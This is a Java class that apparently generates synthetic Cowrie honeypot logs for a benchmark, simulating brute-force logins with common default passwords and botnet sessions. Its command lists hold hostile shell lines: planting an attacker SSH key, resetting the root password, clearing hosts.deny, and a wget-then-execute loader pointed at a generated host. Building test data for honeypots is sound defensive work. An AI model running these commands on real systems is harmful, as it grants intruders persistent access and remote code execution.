package io.github.cowriekit.benchmarks.generator;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/** Invents the behaviour of visitors. */
final class Scenario {
    private static final List<String> USERS = List.of(
            "root", "root", "root", "root", "root", "admin", "ubuntu", "user", "test", "oracle", "postgres", "pi");
    private static final List<String> PASSWORDS = List.of(
            "123456",
            "password",
            "admin",
            "root",
            "1234",
            "qwerty",
            "345gs5662d34",
            "P@ssw0rd",
            "xc3511",
            "vizxv",
            "contrase\\u00f1a",
            "\\u5bc6\\u7801123",
            "a\\\"b\\\\c",
            "pass word",
            "changeme");
    private static final List<String> CLIENTS = List.of(
            "SSH-2.0-Go", "SSH-2.0-Go", "SSH-2.0-libssh_0.9.6", "SSH-2.0-OpenSSH_7.4", "SSH-2.0-paramiko_2.12.0");
    private static final List<String> ALGORITHMS = List.of(
            "curve25519-sha256",
            "ecdh-sha2-nistp256",
            "ecdh-sha2-nistp384",
            "diffie-hellman-group14-sha256",
            "diffie-hellman-group-exchange-sha256",
            "rsa-sha2-256-cert-v01@openssh.com",
            "ecdsa-sha2-nistp256",
            "ssh-rsa",
            "aes128-gcm@openssh.com",
            "chacha20-poly1305@openssh.com",
            "aes256-ctr",
            "aes128-cbc",
            "hmac-sha2-256",
            "hmac-sha2-512-etm@openssh.com",
            "umac-128-etm@openssh.com",
            "hmac-sha1");
    private static final List<String> BOT = List.of(
            "cd ~; chattr -ia .ssh; lockr -ia .ssh",
            "cd ~ && rm -rf .ssh && mkdir .ssh && echo \\\"ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwd bot\\\""
                    + ">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~",
            "cat /proc/cpuinfo | grep name | wc -l",
            "rm -rf /tmp/secure.sh; rm -rf /tmp/auth.sh; pkill -9 secure.sh; pkill -9 auth.sh; echo > /etc/hosts.deny",
            "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
            "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
            "ls -lh $(which ls)",
            "which ls",
            "crontab -l",
            "w",
            "uname -m",
            "top",
            "uname",
            "uname -a",
            "whoami",
            "lscpu | grep Model",
            "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'");
    private static final List<String> TOPICS = List.of("kexAlgs", "keyAlgs", "encCS", "macCS");

    private final Random random;
    private final Generation generation;
    private final int network;
    private final List<String> kexes = new ArrayList<>();
    private final List<String> addresses = new ArrayList<>();
    private final List<String> hashes = new ArrayList<>();

    Scenario(Random random, Generation generation, int network) {
        this.random = random;
        this.generation = generation;
        this.network = network;
        for (int i = 0; i < 4000; i++) {
            addresses.add(address());
        }
        for (int i = 0; i < 300; i++) {
            hashes.add(hex(64));
        }
        for (int i = 0; i < 24; i++) {
            kexes.add(kex());
        }
    }

    /** Returns the source of randomness, shared so that the same seed gives the same log. */
    Random random() {
        return random;
    }

    /** What the lines of a session share. */
    record Connection(String session, String ip, int port, int honeypotPort, String protocol) {}

    /** A line that is due later. */
    private record Line(double at, String id, String body, String message) {}

    /** A session that is being written. */
    final class Visit {
        private final Connection connection;
        private final double start;
        private final List<Line> lines = new ArrayList<>();
        private double clock;
        private int written;

        private Visit(Connection connection, double start) {
            this.connection = connection;
            this.start = start;
        }

        double next() {
            return start + lines.get(written).at();
        }

        boolean hasNext() {
            return written < lines.size();
        }

        String take(String time) {
            Line line = lines.get(written++);
            return generation.line(connection, line.id(), line.body(), line.message(), time);
        }

        private void add(double pause, String id, String body, String message) {
            clock += pause;
            lines.add(new Line(clock, id, body, '"' + message + '"'));
        }

        private void login(boolean success) {
            String user = pick(USERS);
            String password = random.nextBoolean() ? pick(PASSWORDS) : pick(PASSWORDS) + random.nextInt(1000);
            add(
                    .3 + random.nextDouble() * 4,
                    success ? "login.success" : "login.failed",
                    "\"username\":\"%s\",\"password\":\"%s\"".formatted(user, password),
                    "login attempt [%s/%s] %s".formatted(user, password, success ? "succeeded" : "failed"));
        }

        private void command(String text) {
            add(.05 + random.nextDouble() * 1.2, "command.input", "\"input\":\"" + text + '"', "CMD: " + text);
        }

        private void download(String place) {
            String hash = pick(hashes);
            String file = "var/lib/cowrie/downloads/" + hash;
            add(
                    .5 + random.nextDouble() * 5,
                    "session.file_download",
                    "%s,\"outfile\":\"%s\",\"shasum\":\"%s\"".formatted(place, file, hash),
                    "Saved contents with SHA-256 %s to %s".formatted(hash, file));
        }

        private void closeRecording() {
            String hash = hex(64);
            add(
                    .02,
                    "log.closed",
                    "\"ttylog\":\"var/lib/cowrie/tty/%s\",\"size\":%d,\"shasum\":\"%s\",\"duplicate\":false,%s"
                            .formatted(hash, 60 + random.nextInt(9000), hash, generation.duration(clock)),
                    "Closing TTY Log: var/lib/cowrie/tty/%s after %.1f seconds".formatted(hash, clock));
        }
    }

    Visit visit(double start) {
        boolean ssh = random.nextDouble() < .85;
        double cubed = Math.pow(random.nextDouble(), 3);
        String ip = random.nextDouble() < .9 ? addresses.get((int) (addresses.size() * cubed)) : address();
        Connection connection =
                new Connection(hex(12), ip, 1024 + random.nextInt(60_000), ssh ? 2222 : 2223, ssh ? "ssh" : "telnet");
        Visit visit = new Visit(connection, start);
        double kind = random.nextDouble();
        visit.add(
                0,
                "session.connect",
                "",
                "New connection: %s:%d (192.0.2.10:%d) [session: %s]"
                        .formatted(ip, connection.port(), connection.honeypotPort(), connection.session()));
        if (ssh) {
            String client = pick(CLIENTS);
            visit.add(
                    .02 + random.nextDouble() * .3,
                    "client.version",
                    "\"version\":\"" + client + '"',
                    "Remote SSH version: " + client);
            if (kind >= .12) {
                visit.add(.01 + random.nextDouble() * .2, "client.kex", pick(kexes), "SSH client hassh fingerprint");
            }
        }
        act(visit, kind);
        double pause = random.nextDouble() < .15 ? 120 : random.nextDouble() * 20;
        if (random.nextDouble() >= .005) {
            visit.add(
                    pause,
                    "session.closed",
                    generation.duration(visit.clock + pause),
                    "Connection lost after %.1f seconds".formatted(visit.clock + pause));
        }
        return visit;
    }

    private void act(Visit visit, double kind) {
        if (kind < .12) {
            return;
        }
        int failures = kind >= .85 ? random.nextInt(3) : random.nextDouble() < .35 ? 1 : 2 + random.nextInt(7);
        for (int i = 0; i < failures; i++) {
            visit.login(false);
        }
        if (kind >= .85) {
            visit.login(true);
            if (kind < .90) {
                tunnel(visit);
            } else if (kind < .96) {
                bot(visit);
            } else {
                loader(visit);
            }
        }
    }

    private void tunnel(Visit visit) {
        for (int i = random.nextInt(4); i > 0; i--) {
            String target = address();
            int port = 1024 + random.nextInt(60_000);
            visit.add(
                    .2 + random.nextDouble(),
                    "direct-tcpip.request",
                    "\"dst_ip\":\"%s\",\"dst_port\":443,\"orig_ip\":\"127.0.0.1\",\"orig_port\":%d"
                            .formatted(target, port),
                    "direct-tcp connection request to %s:443 from 127.0.0.1:%d".formatted(target, port));
        }
    }

    private void bot(Visit visit) {
        visit.add(.1, "client.size", "\"width\":80,\"height\":24", "Terminal Size: 80 24");
        visit.add(.1, "session.params", "\"arch\":\"linux-x64-lsb\"", "");
        for (String command : BOT) {
            visit.command(command);
        }
        visit.command("echo \\\"root:%s\\\"|chpasswd|bash".formatted(hex(12)));
        visit.download("\"duplicate\":true,\"destfile\":\"/root/.ssh/authorized_keys\"");
        visit.closeRecording();
    }

    private void loader(Visit visit) {
        String url = "http://%s:8080/%s.sh".formatted(address(), hex(4));
        visit.command("uname -a;nproc;cat /etc/issue 2>/dev/null");
        visit.command("cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget %s; chmod 777 x; sh x; rm -rf x"
                .formatted(url));
        visit.download("\"url\":\"" + url + '"');
        visit.add(.2, "command.failed", "\"input\":\"./x\"", "Command not found: ./x");
        visit.closeRecording();
    }

    private String kex() {
        StringBuilder body = new StringBuilder("\"hassh\":\"%s\"".formatted(hex(32)));
        StringBuilder joined = new StringBuilder();
        for (String topic : TOPICS) {
            List<String> chosen = ALGORITHMS.stream()
                    .filter(name -> random.nextDouble() < .55)
                    .toList();
            joined.append(String.join(",", chosen)).append(';');
            body.append(",\"%s\":[%s]".formatted(topic, quoted(chosen)));
        }
        return body + ",\"compCS\":[\"none\"],\"langCS\":[\"\"],\"hasshAlgorithms\":\"" + joined + "none\"";
    }

    private static String quoted(List<String> texts) {
        return texts.isEmpty() ? "" : '"' + String.join("\",\"", texts) + '"';
    }

    private String address() {
        // a documentation range gives no more than 256 addresses, and the benchmark wants many
        return "%d.%d.%d.%d".formatted(network, random.nextInt(256), random.nextInt(256), random.nextInt(256));
    }

    private String hex(int digits) {
        StringBuilder text = new StringBuilder(digits);
        while (text.length() < digits) {
            text.append(Character.forDigit(random.nextInt(16), 16));
        }
        return text.toString();
    }

    private String pick(List<String> choices) {
        return choices.get(random.nextInt(choices.size()));
    }
}
